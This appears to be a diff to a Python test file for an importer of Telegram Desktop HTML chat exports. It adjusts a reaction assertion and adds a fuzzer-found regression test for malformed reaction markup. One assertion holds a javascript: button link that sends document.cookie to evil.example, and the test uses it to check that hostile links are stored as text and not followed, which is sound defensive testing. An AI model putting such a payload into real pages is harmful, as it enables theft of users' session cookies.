@@ -127,8 +127,7 @@ def test_hostile_blocks_are_recorded_as_text_bounded_and_never_followed(tmp_path
     m = _html(tmp_path, _text(2, "x", buttons=hostile, reactions=many), _text(3, "next", author=None))
     assert time.perf_counter() - start < 10
     two = m["2"]
-    assert len(two.recorded["reactions"]) == 200 and two.recorded["reactions"][0] == {"type": "emoji", "emoji": "x",
-                                                                                       "count": 0}
+    assert len(two.recorded["reactions"]) == 200 and two.recorded["reactions"][0] == {"type": "emoji", "emoji": "x"}
     links = [b["data"] for b in two.recorded["buttons"]]
     assert links[0] == "javascript:fetch('//evil.example/'+document.cookie)"
     # SerializeString wrote the control characters as &#x01; &#x00; &#x09; and the line break as
@@ -159,3 +158,13 @@ def test_a_forged_copy_action_keeps_only_what_reads_as_one(tmp_path):
     m = _html(tmp_path, ex.tdesktop_html_message(2, T0, rows))["2"]
     assert m.recorded["buttons"] == [{"text": "no copy"}, {"text": "bad type"},
                                      {"type": "auth", "forward_text": "hi", "text": "ok"}]
+
+
+def test_a_reaction_part_outside_a_reaction_after_a_buttons_block_is_ignored(tmp_path):
+    # found by the fuzzer: an emoji span straight inside .reactions, after a button, was finished
+    # as a reaction on the button's record and crashed the import
+    body = ('<div class="text">x</div><table class="bot_buttons_table"><tr><td><div class="bot_button"><div>b</div>'
+            '</div></td></tr></table><span class="reactions"><span class="emoji">👍</span><span class="count">2'
+            '</span><span class="reaction"><span class="emoji">❤</span></span></span>')
+    m = _html(tmp_path, ex.tdesktop_html_message(2, T0, body))["2"]
+    assert m.recorded == {"buttons": [{"text": "b"}], "reactions": [{"type": "emoji", "emoji": "❤"}]}
